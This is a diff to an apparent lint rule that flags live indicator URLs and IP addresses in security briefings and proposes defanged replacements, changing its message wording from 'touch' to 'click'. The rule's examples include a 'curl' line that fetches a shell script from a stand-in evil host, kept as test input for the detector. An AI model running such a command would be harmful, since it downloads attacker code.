@@ -28,9 +28,9 @@ import { shorten } from '../shorten.js'
  *
  *     curl https://www.evil.example/x.sh
  * ~~~
- * 1:59-1:81: The URL `https://evil.example/b` is live, and the briefing defangs its host elsewhere: one touch takes the reader there. Write `hxxps[:]//evil[.]example/b`
- * 1:86-1:98: The IP address `45.33.32.156` is live: one touch takes the reader there. Write `45.33.32[.]156`
- * 3:10-3:39: The URL `https://www.evil.example/x.sh` is live, and the briefing defangs its host elsewhere: one touch takes the reader there. Write `hxxps[:]//www[.]evil[.]example/x.sh`
+ * 1:59-1:81: The URL `https://evil.example/b` is live, and the briefing defangs its host elsewhere: one click takes the reader there. Write `hxxps[:]//evil[.]example/b`
+ * 1:86-1:98: The IP address `45.33.32.156` is live: one click takes the reader there. Write `45.33.32[.]156`
+ * 3:10-3:39: The URL `https://www.evil.example/x.sh` is live, and the briefing defangs its host elsewhere: one click takes the reader there. Write `hxxps[:]//www[.]evil[.]example/x.sh`
  *
  * @bad
  * ~~~md
@@ -46,15 +46,15 @@ import { shorten } from '../shorten.js'
  *
  * <a href="https://evil.example/">Words</a>
  * ~~~
- * 2:5-2:17: The IP address `45.33.32.156` is live: one touch takes the reader there. Write `45.33.32[.]156`
- * 2:26-2:46: The URL `http://evil.example/` is live, and the briefing defangs its host elsewhere: one touch takes the reader there. Write `hxxp[:]//evil[.]example/`
- * 4:1-4:33: The URL `https://evil.example/` is live, and the briefing defangs its host elsewhere: one touch takes the reader there. Write `hxxps[:]//evil[.]example/`
+ * 2:5-2:17: The IP address `45.33.32.156` is live: one click takes the reader there. Write `45.33.32[.]156`
+ * 2:26-2:46: The URL `http://evil.example/` is live, and the briefing defangs its host elsewhere: one click takes the reader there. Write `hxxp[:]//evil[.]example/`
+ * 4:1-4:33: The URL `https://evil.example/` is live, and the briefing defangs its host elsewhere: one click takes the reader there. Write `hxxps[:]//evil[.]example/`
  *
  * @bad {"indicators": ["evil[.]example"]}
  * ~~~md
  * The host https://cdn.evil.example/b.
  * ~~~
- * 1:10-1:36: The URL `https://cdn.evil.example/b` is live, and the house lists its host as an indicator: one touch takes the reader there. Write `hxxps[:]//cdn[.]evil[.]example/b`
+ * 1:10-1:36: The URL `https://cdn.evil.example/b` is live, and the house lists its host as an indicator: one click takes the reader there. Write `hxxps[:]//cdn[.]evil[.]example/b`
  *
  * @good {"allow": ["example.com"]}
  * ~~~md
@@ -112,7 +112,7 @@ export default defineRule({
         report({
           at,
           place,
-          reason: `${shown} is live${because}: one touch takes the reader there. Write \`${shorten(harmless)}\``,
+          reason: `${shown} is live${because}: one click takes the reader there. Write \`${shorten(harmless)}\``,
           ...(!isLink && { fix: { range: place, text: harmless } }),
           ...(cause && { cause: { ...cause, reason: 'It is defanged here' } }),
         })
